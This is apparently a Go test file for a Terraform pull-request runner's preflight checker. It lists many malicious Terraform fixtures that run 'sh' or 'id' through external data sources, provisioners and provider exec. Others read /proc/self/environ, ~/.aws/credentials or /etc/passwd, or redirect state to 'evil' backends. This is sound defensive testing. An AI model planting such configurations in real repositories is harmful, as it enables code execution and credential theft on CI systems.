package runner

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/mooring-iac/mooring/e2e/gitea"
	"github.com/mooring-iac/mooring/e2e/githttp"
	"github.com/mooring-iac/mooring/policies"
	"github.com/mooring-iac/mooring/policies/preflight"
)

const anotherBase = `
-- app/main.tf --
terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.0"
    }
  }
  backend "s3" {
    bucket = "state"
    key    = "app.tfstate"
  }
}
provider "aws" {}
resource "aws_instance" "web" {
  ami       = "ami-1"
  user_data = templatefile("${path.module}/init.tftpl", { name = "x" })
}
module "net" {
  source = "../modules/net"
}
-- app/init.tftpl --
echo ${name}
-- app/.terraform.lock.hcl --
provider "registry.terraform.io/hashicorp/aws" {
  version     = "5.1.0"
  constraints = "~> 5.0"
  hashes = [
    "h1:aaaa",
    "zh:bbbb",
  ]
}
-- modules/net/main.tf --
resource "aws_vpc" "this" {
  cidr_block = file("${path.module}/cidr.txt")
}
-- modules/net/cidr.txt --
10.0.0.0/8
-- mooring.hcl --
workspace "app" {
  dir            = "app"
  backend_config = ["prod.tfbackend"]
}
-- app/prod.tfbackend --
region = "eu-west-1"
`

// moreAttacks are what a pull request may try to run or to read something with while
// Terraform plans.
var moreAttacks = []struct {
	name, head string
	rule       string
	file       string
	line       int
}{
	{"external data source", "-- app/evil.tf --\n\ndata \"external\" \"x\" {\n  program = [\"sh\"]\n}\n", "data", "app/evil.tf", 2},
	{"external data source, JSON", "-- app/evil.tf.json --\n{\n \"data\": {\"external\": {\n  \"x\": {\"program\": [\"sh\"]}}}}\n", "data", "app/evil.tf.json", 3},
	{"external data source, JSON arrays", "-- app/evil.tf.json --\n[{\"data\": [\n{\"external\": [{\n  \"x\": [{\"program\": [\"sh\"]}]}]}]}]\n", "data", "app/evil.tf.json", 3},
	{"external data source in a check", "-- app/evil.tf --\ncheck \"c\" {\n  data \"external\" \"x\" {\n    program = [\"sh\"]\n  }\n}\n", "data", "app/evil.tf", 2},
	{"external data source in a check, JSON", "-- app/evil.tf.json --\n{\"check\": {\"c\": {\n\"data\": {\"external\": {\n\"x\": {\"program\": [\"sh\"]}}}}}}\n", "data", "app/evil.tf.json", 3},
	{"external data source in a local module", "-- app/evil.tf --\nmodule \"m\" { source = \"../modules/m\" }\n-- modules/m/main.tf --\nmodule \"n\" { source = \"./n\" }\n-- modules/m/n/main.tf.json --\n{\"data\": {\"external\":\n {\"x\": {}}}}\n", "data", "modules/m/n/main.tf.json", 2},
	{"external data source in an override file", "-- app/x_override.tf --\n# first\ndata \"external\" \"x\" {}\n", "data", "app/x_override.tf", 2},
	{"http data source", "-- app/evil.tf --\ndata \"http\" \"x\" {\n  url = \"https://evil\"\n}\n", "data", "app/evil.tf", 1},
	{"http data source, JSON", "-- app/evil.tf.json --\n{\"data\": {\"http\": {\n\"x\": {\"url\": \"https://evil\"}}}}\n", "data", "app/evil.tf.json", 2},
	{"ephemeral resource that runs a program", "-- app/evil.tf --\nephemeral \"external\" \"x\" {}\n", "data", "app/evil.tf", 1},
	{"ephemeral resource that runs a program, JSON", "-- app/evil.tf.json --\n{\"ephemeral\": {\"external\": {\"x\": {}}}}\n", "data", "app/evil.tf.json", 1},
	{"local-exec", "-- app/evil.tf --\nresource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n", "provisioner", "app/evil.tf", 2},
	{"local-exec, JSON", "-- app/evil.tf.json --\n{\"resource\": {\"terraform_data\": {\"x\": {\n\"provisioner\": {\"local-exec\":\n {\"command\": \"id\"}}}}}}\n", "provisioner", "app/evil.tf.json", 3},
	{"local-exec, JSON arrays", "-- app/evil.tf.json --\n{\"resource\": [{\"terraform_data\": {\"x\": [{\n\"provisioner\": [{\"local-exec\":\n [{\"command\": \"id\"}]}]}]}}]}\n", "provisioner", "app/evil.tf.json", 3},
	{"remote-exec", "-- app/evil.tf --\nresource \"terraform_data\" \"x\" {\n  provisioner \"remote-exec\" {}\n}\n", "provisioner", "app/evil.tf", 2},
	{"remote-exec, JSON", "-- app/evil.tf.json --\n{\"resource\": {\"terraform_data\": {\"x\": {\"provisioner\": [\n{\"remote-exec\": {}}]}}}}\n", "provisioner", "app/evil.tf.json", 2},
	{"file provisioner", "-- app/evil.tf --\nresource \"terraform_data\" \"x\" {\n  provisioner \"file\" {}\n}\n", "provisioner", "app/evil.tf", 2},
	{"file provisioner, JSON", "-- app/evil.tf.json --\n{\"resource\": {\"terraform_data\": {\"x\": {\"provisioner\": [\n{\"file\": {}}]}}}}\n", "provisioner", "app/evil.tf.json", 2},
	{"program of a provider", "-- app/evil.tf --\nprovider \"aws\" {\n  alias = \"k\"\n  exec {\n    command = \"id\"\n  }\n}\n", "exec", "app/evil.tf", 1},
	{"program of a provider, JSON", "-- app/evil.tf.json --\n{\"provider\": {\"aws\": {\"alias\": \"k\",\n \"exec\": {\"command\": \"id\"}}}}\n", "exec", "app/evil.tf.json", 1},
	{"command where a resource is removed", "-- app/evil.tf --\nremoved {\n  from = aws_instance.web\n  provisioner \"local-exec\" {\n    when    = destroy\n    command = \"id\"\n  }\n}\n", "provisioner", "app/evil.tf", 3},
	{"command where a resource is removed, JSON", "-- app/evil.tf.json --\n{\"removed\": {\"from\": \"aws_instance.web\",\n\"provisioner\": {\"local-exec\":\n {\"when\": \"destroy\", \"command\": \"id\"}}}}\n", "provisioner", "app/evil.tf.json", 3},
	{"program of a provider through a local", "-- app/evil.tf --\nlocals {\n  k = { exec = { command = \"id\" } }\n}\nprovider \"helm\" {\n  kubernetes = local.k\n}\n", "exec", "app/evil.tf", 4},
	{"program of a provider through a local, JSON", "-- app/l.tf --\nlocals {\n  k = { exec = { command = \"id\" } }\n}\n-- app/evil.tf.json --\n{\"provider\": {\"helm\":\n {\"kubernetes\": \"${local.k}\"}}}\n", "exec", "app/evil.tf.json", 2},
	{"program of a provider through tfvars", "-- app/terraform.tfvars --\nk = { exec = { command = \"id\" } }\n-- app/evil.tf --\nvariable \"k\" {}\nterraform {\n  required_providers {\n    aws2 = { source = \"hashicorp/kubernetes\" }\n  }\n}\nprovider \"aws2\" {\n  x = var.k\n}\n", "exec", "app/evil.tf", 7},
	{"program of a provider that another module calls by that name", "-- app/evil.tf --\nlocals {\n  k = { exec = { command = \"id\" } }\n}\nterraform {\n  required_providers {\n    x = { source = \"hashicorp/helm\" }\n  }\n}\nprovider \"x\" {\n  y = local.k\n}\nmodule \"m\" { source = \"../modules/m\" }\n-- modules/m/main.tf --\nterraform {\n  required_providers {\n    x = { source = \"hashicorp/aws\" }\n  }\n}\n", "exec", "app/evil.tf", 9},
	{"program of a provider escaped in JSON", "-- app/evil.tf.json --\n{\"provider\": {\"aws\": {\"alias\": \"k\",\n \"\\u0065xec\": {\"\\u0063ommand\": \"id\"}}}}\n", "exec", "app/evil.tf.json", 1},
	{"program in a file that a provider reads", "-- app/c --\n[default]\ncredential_process = id\n-- app/evil.tf --\nprovider \"aws\" {\n  alias               = \"k\"\n  shared_config_files = [\"./c\"]\n}\n", "exec", "app/evil.tf", 1},
	{"backend switched by the file that completes it", "-- app/prod.tfbackend --\nbucket = \"evil\"\n", "backend", "app/main.tf", 8},
	{"a provider beside the root module", "-- app/terraform.d/plugins/registry.terraform.io/hashicorp/aws/9.9.9/linux_amd64/terraform-provider-aws_v9.9.9 --\nx\n", "plugins", "app/terraform.d/plugins/registry.terraform.io/hashicorp/aws/9.9.9/linux_amd64/terraform-provider-aws_v9.9.9", 1},
	{"module from a Git branch", "-- app/evil.tf --\nmodule \"m\" {\n  source = \"git::https://github.com/x/y.git?ref=main\"\n}\n", "module", "app/evil.tf", 2},
	{"module from a Git branch, JSON", "-- app/evil.tf.json --\n{\"module\": {\"m\": {\n\"source\": \"git::https://github.com/x/y.git?ref=main\"}}}\n", "module", "app/evil.tf.json", 2},
	{"module of an override file", "-- app/override.tf --\nmodule \"net\" {\n  source = \"github.com/x/y\"\n}\n", "module", "app/override.tf", 2},
	{"module of an override file, JSON", "-- app/override.tf.json --\n{\"module\": {\"net\": {\n\"source\": \"github.com/x/y\"}}}\n", "module", "app/override.tf.json", 2},
	{"module source through a local", "-- app/evil.tf --\nlocals { s = \"github.com/x/y\" }\nmodule \"m\" {\n  source = local.s\n}\n", "module", "app/evil.tf", 3},
	{"module source that nobody knows", "-- app/evil.tf --\nvariable \"s\" {}\nmodule \"m\" {\n  source = var.s\n}\n", "module", "app/evil.tf", 3},
	{"module outside the repository", "-- app/evil.tf --\nmodule \"m\" {\n  source = \"../../../etc\"\n}\n", "module", "app/evil.tf", 2},
	{"module of an absolute path", "-- app/evil.tf --\nmodule \"m\" {\n  source = \"/etc/x\"\n}\n", "module", "app/evil.tf", 2},
	{"unknown provider", "-- app/evil.tf --\nterraform {\n  required_providers {\n    x = {\n      source = \"evil/x\"\n    }\n  }\n}\n", "provider", "app/evil.tf", 3},
	{"unknown provider, JSON", "-- app/evil.tf.json --\n{\"terraform\": [{\"required_providers\": [{\n\"x\": {\n\"source\": \"evil/x\"}}]}]}\n", "provider", "app/evil.tf.json", 2},
	{"implied provider", "-- app/evil.tf --\n\nresource \"null_resource\" \"x\" {}\n", "provider", "app/evil.tf", 2},
	{"implied provider, JSON", "-- app/evil.tf.json --\n{\"resource\": {\"null_resource\":\n {\"x\": {}}}}\n", "provider", "app/evil.tf.json", 2},
	{"a provider by an argument", "-- app/evil.tf --\nresource \"aws_x\" \"x\" {\n  provider = evil.a\n}\n", "provider", "app/evil.tf", 1},
	{"two sources of one provider", "-- app/evil.tf --\nterraform {\n  required_providers {\n    x = { source = \"hashicorp/aws\", source = \"evil/aws\" }\n  }\n}\n", "provider", "app/evil.tf", 3},
	{"two sources of one provider, JSON", "-- app/evil.tf.json --\n{\"terraform\": {\"required_providers\": {\n\"x\": {\"source\": \"hashicorp/aws\", \"source\": \"evil/aws\"}}}}\n", "provider", "app/evil.tf.json", 2},
	{"file of the environment", "-- app/evil.tf --\nlocals {\n  x = file(\"/proc/self/environ\")\n}\n", "function", "app/evil.tf", 2},
	{"file of the environment, JSON", "-- app/evil.tf.json --\n{\"locals\": {\n\"x\": \"${file(\\\"/proc/self/environ\\\")}\"}}\n", "function", "app/evil.tf.json", 2},
	{"a function's name escaped in JSON", "-- app/evil.tf.json --\n{\"locals\": {\n\"x\": \"${\\u0066ile(\\\"/proc/self/environ\\\")}\"}}\n", "function", "app/evil.tf.json", 2},
	{"core::file", "-- app/evil.tf --\nlocals {\n  x = core::filebase64(\"/proc/self/environ\")\n}\n", "function", "app/evil.tf", 2},
	{"fileset of /proc", "-- app/evil.tf --\nlocals {\n  x = fileset(\"/proc\", \"*\")\n}\n", "function", "app/evil.tf", 2},
	{"fileset of /proc, JSON", "-- app/evil.tf.json --\n{\"locals\": {\n\"x\": \"${fileset(\\\"/proc\\\", \\\"*\\\")}\"}}\n", "function", "app/evil.tf.json", 2},
	{"fileset by its pattern", "-- app/evil.tf --\nlocals {\n  x = fileset(path.module, \"../../../proc/*\")\n}\n", "function", "app/evil.tf", 2},
	{"templatefile that goes up", "-- app/evil.tf --\nlocals {\n  x = templatefile(\"${path.module}/../../etc/passwd\", {})\n}\n", "function", "app/evil.tf", 2},
	{"templatefile that goes up, JSON", "-- app/evil.tf.json --\n{\"locals\": {\n\"x\": \"${templatefile(\\\"../../etc/passwd\\\", {})}\"}}\n", "function", "app/evil.tf.json", 2},
	{"another root's file", "-- other/s.txt --\nx\n-- app/evil.tf --\nlocals {\n  x = file(\"${path.root}/../other/s.txt\")\n}\n", "function", "app/evil.tf", 2},
	{"home directory", "-- app/evil.tf --\nlocals {\n  x = file(\"~/.aws/credentials\")\n}\n", "function", "app/evil.tf", 2},
	{"a path through a local", "-- app/evil.tf --\nlocals {\n  p = \"/proc/self\"\n  x = file(\"${local.p}/environ\")\n}\n", "function", "app/evil.tf", 3},
	{"a path through a local, JSON", "-- app/evil.tf.json --\n{\"locals\": {\"p\": \"/proc/self\",\n\"x\": \"${file(\\\"${local.p}/environ\\\")}\"}}\n", "function", "app/evil.tf.json", 2},
	{"a path through a variable of a module", "-- app/evil.tf --\nmodule \"m\" {\n  source = \"../modules/m\"\n  p      = \"/proc/self/environ\"\n}\n-- modules/m/main.tf --\nvariable \"p\" {}\noutput \"x\" { value = file(var.p) }\n", "function", "modules/m/main.tf", 2},
	{"a path through tfvars", "-- app/terraform.tfvars --\np = \"/proc/self/environ\"\n-- app/evil.tf --\nvariable \"p\" { default = \"init.tftpl\" }\noutput \"x\" { value = file(var.p) }\n", "function", "app/evil.tf", 2},
	{"a path nobody knows", "-- app/evil.tf --\nvariable \"p\" {}\noutput \"x\" { value = file(var.p) }\n", "function", "app/evil.tf", 2},
	{"path.root is a dot", "-- app/evil.tf --\nlocals {\n  x = file(\"${path.root}./other/s.txt\")\n}\n", "function", "app/evil.tf", 2},
	{"path.root asked for its length", "-- app/evil.tf --\nlocals {\n  p = length(path.root) < 2 ? \"/proc/self/environ\" : \"init.tftpl\"\n  x = file(local.p)\n}\n", "function", "app/evil.tf", 3},
	{"path.root replaced", "-- app/evil.tf --\nlocals {\n  x = file(replace(\"${path.root}/init.tftpl\", \"./init.tftpl\", \"/proc/self/environ\"))\n}\n", "function", "app/evil.tf", 2},
	{"a path tried", "-- app/evil.tf --\nlocals {\n  x = file(try(\"/proc/self/environ${substr(timestamp(), 0, 0)}\", \"init.tftpl\"))\n}\n", "function", "app/evil.tf", 2},
	{"a path that is another when it applies", "-- app/evil.tf --\nlocals {\n  x = file(terraform.applying ? \"/proc/self/environ\" : \"init.tftpl\")\n}\n", "function", "app/evil.tf", 2},
	{"a path that asks for a file of init", "-- app/evil.tf --\nlocals {\n  x = file(fileexists(\".terraform/modules/modules.json\") ? \"/proc/self/environ\" : \"init.tftpl\")\n}\n", "function", "app/evil.tf", 2},
	{"a template that reads", "-- app/init.tftpl --\none\n${file(\"/proc/self/environ\")}\n", "function", "app/init.tftpl", 2},
	{"templatestring", "-- app/evil.tf --\nlocals {\n  t = \"$${file(\\\"/proc/self/environ\\\")}\"\n  x = templatestring(local.t, {})\n}\n", "function", "app/evil.tf", 3},
	{"a link that a function follows", "-- app/l --\n-> /proc/self/environ\n-- app/evil.tf --\nlocals {\n  x = file(\"l\")\n}\n", "function", "app/evil.tf", 2},
	{"symlinked tfvars", "-- app/terraform.tfvars --\n-> /proc/self/environ\n", "link", "app/terraform.tfvars", 1},
	{"symlinked tfvars, JSON", "-- app/x.auto.tfvars.json --\n-> ../values.json\n-- values.json --\n{}\n", "link", "app/x.auto.tfvars.json", 1},
	{"symlinked configuration", "-- app/x.tf --\n-> ../modules/net/main.tf\n", "link", "app/x.tf", 1},
	{"changed lock file", "-- app/.terraform.lock.hcl --\nprovider \"registry.terraform.io/hashicorp/aws\" {\n  version = \"5.1.0\"\n  hashes = [\"h1:evil\"]\n}\n", "lock_file", "app/.terraform.lock.hcl", 1},
	{"lock file with another version", "-- app/.terraform.lock.hcl --\n# new\nprovider \"registry.terraform.io/hashicorp/aws\" {\n  version = \"5.2.0\"\n  hashes = [\"h1:aaaa\", \"zh:bbbb\"]\n}\n", "lock_file", "app/.terraform.lock.hcl", 2},
	{"lock file gone", "-- app/.terraform.lock.hcl --\n", "lock_file", "app/main.tf", 3},
	{"lock file broken", "-- app/.terraform.lock.hcl --\nprovider {\n", "unread", "app/.terraform.lock.hcl", 1},
	{"backend switched", "-- app/x_override.tf --\nterraform {\n  backend \"s3\" {\n    bucket = \"evil\"\n    key    = \"app.tfstate\"\n  }\n}\n", "backend", "app/x_override.tf", 2},
	{"backend switched, JSON", "-- app/override.tf.json --\n{\"terraform\": {\n\"backend\": {\n\"http\": {\"address\": \"https://evil\"}}}}\n", "backend", "app/override.tf.json", 3},
	{"cloud block", "-- app/evil.tf --\nterraform {\n  cloud {\n    organization = \"evil\"\n  }\n}\n", "backend", "app/evil.tf", 2},
	{"cloud block, JSON", "-- app/terraform.tf.json --\n{\"terraform\": [{},\n {\"cloud\": {\"organization\": \"evil\"}}]}\n", "backend", "app/terraform.tf.json", 2},
	{"remote state", "-- app/evil.tf --\ndata \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config  = { bucket = \"other\", key = \"secret\" }\n}\n", "remote_state", "app/evil.tf", 1},
	{"remote state, JSON", "-- app/evil.tf.json --\n{\"data\": {\"terraform_remote_state\": {\n\"x\": {\"backend\": \"s3\", \"config\": {\"bucket\": \"other\", \"key\": \"secret\"}}}}}\n", "remote_state", "app/evil.tf.json", 2},
	{"remote state that nobody knows", "-- app/evil.tf --\nvariable \"k\" {}\ndata \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config  = { bucket = \"other\", key = var.k }\n}\n", "remote_state", "app/evil.tf", 2},
	{"a file that does not parse", "-- app/evil.tf --\nlocals {\n  x = = 1\n}\n", "unread", "app/evil.tf", 2},
	{"a file that does not parse, JSON", "-- app/evil.tf.json --\n{\n\"locals\": }\n", "unread", "app/evil.tf.json", 2},
	{"a block that nobody knows", "-- app/evil.tf --\n\nrun_program \"x\" {}\n", "unknown", "app/evil.tf", 2},
	{"a block that nobody knows, JSON", "-- app/evil.tf.json --\n{\n\"run_program\": {}}\n", "unknown", "app/evil.tf.json", 2},
	{"encryption by a program", "-- app/evil.tf --\nterraform {\n  encryption {\n    key_provider \"external\" \"x\" {\n      command = [\"id\"]\n    }\n  }\n}\n", "unknown", "app/evil.tf", 2},
	{"encryption by a program, JSON", "-- app/evil.tf.json --\n{\"terraform\": {\n\"encryption\": {\"key_provider\": {\"external\": {\"x\": {\"command\": [\"id\"]}}}}}}\n", "unknown", "app/evil.tf.json", 2},
	{"a template that does not parse, JSON", "-- app/evil.tf.json --\n{\"locals\": {\n\"x\": \"${file(\"}}\n", "unread", "app/evil.tf.json", 2},
}

func TestMoreAttacksAreFoundBeforeInit(t *testing.T) {
	tree, _ := treeIn(t, anotherBase)
	before := usedBy(usesInTree(t, tree))
	for _, a := range moreAttacks {
		t.Run(a.name, func(t *testing.T) {
			tree, _ := treeIn(t, anotherBase, a.head)
			all := preflight.Judge(preflight.Rules{}, usedBy(usesInTree(t, tree)), before)
			found := false
			for _, f := range all {
				if f.Effect == policies.Warn || f.File == "" || f.Line == 0 || f.Message == "" {
					t.Errorf("not a whole finding: %+v", f)
				}
				found = found || f.File == a.file && f.Line == a.line && (f.Rule == "preflight."+a.rule || a.rule == "")
			}
			if !found {
				t.Errorf("no preflight.%s at %s:%d in %+v", a.rule, a.file, a.line, all)
			}
		})
	}
}

// The same attacks as a pull request on a real forge, each on a unit of its own: no Terraform is started for any of them.
func TestNoChildProcessIsStartedForAnyAttack(t *testing.T) {
	f := newReviewFixture(t, map[string]string{"README.md": "attacks\n"}, looksFirst)
	base, head := githttp.Change{Write: map[string]string{}}, githttp.Change{Write: map[string]string{}, Symlink: map[string]string{}}
	var config strings.Builder
	unit := func(i int) string { return fmt.Sprintf("a%03d", i) }
	own := func(i int, data []byte) string { // no two keep one state
		return strings.ReplaceAll(string(data), "app.tfstate", unit(i)+".tfstate")
	}
	for i, a := range moreAttacks {
		fmt.Fprintf(&config, "workspace %[1]q {\n  dir            = \"%[1]s/app\"\n  backend_config = [\"prod.tfbackend\"]\n}\n", unit(i))
		for _, file := range txtar.Parse([]byte(anotherBase)).Files {
			if file.Name != "mooring.hcl" {
				base.Write[unit(i)+"/"+file.Name] = own(i, file.Data)
			}
		}
		for _, file := range txtar.Parse([]byte(a.head)).Files {
			if to, ok := strings.CutPrefix(strings.TrimSpace(string(file.Data)), "-> "); ok {
				head.Symlink[unit(i)+"/"+file.Name] = to
			} else {
				head.Write[unit(i)+"/"+file.Name] = own(i, file.Data)
			}
		}
	}
	base.Write["mooring.hcl"] = config.String()
	f.repo.PushChange(f.owner, gitea.Branch, "What the branch has", base)
	f.repo.PushChange(f.author, "topic", "Attacks", head)
	pull := f.repo.Open(f.author, "topic", gitea.Branch, "Attacks")
	// Only the pull request is taken: what the branch has needs a provider that is not to be had here.
	if _, err := f.r.repos[0].reviews.once(t.Context()); err != nil {
		t.Fatal(err)
	}
	run := f.planOf(pull)
	if run.Finished == nil || len(run.Units) != len(moreAttacks) {
		t.Fatalf("%d units were planned, of %d attacks", len(run.Units), len(moreAttacks))
	}
	for i, a := range moreAttacks {
		u := run.Unit(unit(i))
		if u == nil || u.Status != Held && u.Status != Failed {
			t.Errorf("%s is planned: %+v", a.name, u)
			continue
		}
		if place := fmt.Sprintf("%s/%s:%d", u.ID, a.file, a.line); !strings.Contains(u.Reason+u.Error, place) {
			t.Errorf("%s is not refused for %s: %s%s", a.name, place, u.Reason, u.Error)
		}
		f.noTerraform(u.ID)
	}
}

// A block of JSON is another one when what it refers to is, in whatever syntax that stands.
func TestACommandOfJSONIsAnotherWhenALocalValueIs(t *testing.T) {
	const command = "-- app/l.tf --\nlocals {\n  c = \"ls\"\n}\n"
	for what, block := range map[string]string{
		"provisioner": `{"resource": {"terraform_data": {"x": {"provisioner": {"local-exec": {"command": "${local.c}"}}}}}}`,
		"exec":        `{"provider": {"helm": {"kubernetes": {"exec": {"command": "${local.c}"}}}}}`,
		"data":        `{"data": {"external": {"x": {"program": ["${local.c}"]}}}}`,
	} {
		base, _ := treeIn(t, anotherBase, command, "-- app/c.tf.json --\n"+block+"\n")
		head, _ := treeIn(t, anotherBase, strings.Replace(command, "ls", "id", 1), "-- app/c.tf.json --\n"+block+"\n")
		before := usedBy(usesInTree(t, base))
		if all := preflight.Judge(preflight.Rules{}, before, before); len(all) > 0 {
			t.Errorf("%s, unchanged: %+v", what, all)
		}
		all := preflight.Judge(preflight.Rules{}, usedBy(usesInTree(t, head)), before)
		if !slices.ContainsFunc(all, func(f policies.Finding) bool { return f.Rule == "preflight."+what && f.File == "app/c.tf.json" }) {
			t.Errorf("%s of another command: %+v", what, all)
		}
	}
}
